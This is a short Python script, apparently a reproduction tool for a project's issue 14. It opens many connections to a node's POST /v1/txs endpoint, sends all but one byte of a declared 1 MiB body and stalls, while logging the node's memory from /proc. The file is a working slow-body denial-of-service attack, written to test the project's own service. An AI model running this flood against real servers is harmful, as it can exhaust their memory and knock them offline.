#!/usr/bin/env python3
"""Stalled-body attack of issue 14: N connections each POST /v1/txs with a
Content-Length of 1 MiB, send 1 MiB-1 of it and stall. Prints the node's RSS
(from /proc/PID/status) before and while the attack lasts.

usage: scripts/stallbodies.py PID HOST:PORT [N]
"""
import socket, sys, time

def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) // 1024
    return -1

pid, addr = int(sys.argv[1]), sys.argv[2]
n = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
host, port = addr.rsplit(":", 1)
size = 1 << 20
head = f"POST /v1/txs HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/octet-stream\r\nContent-Length: {size}\r\n\r\n".encode()
payload = b"x" * (size - 1)
print(f"before: RSS {rss_mib(pid)} MiB")
conns = []
for i in range(n):
    s = socket.create_connection((host, int(port)))
    s.setblocking(False)
    conns.append([s, head + payload])
peak = 0
deadline = time.time() + 30
while time.time() < deadline:
    for c in conns:
        if c[1]:
            try:
                sent = c[0].send(c[1])
                c[1] = c[1][sent:]
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                c[1] = b""  # refused and closed by the node
    peak = max(peak, rss_mib(pid))
    time.sleep(0.05)
pending = sum(1 for c in conns if c[1])
print(f"during {n} stalled bodies (30 s): peak RSS {peak} MiB, now {rss_mib(pid)} MiB; {pending} connections still sending")
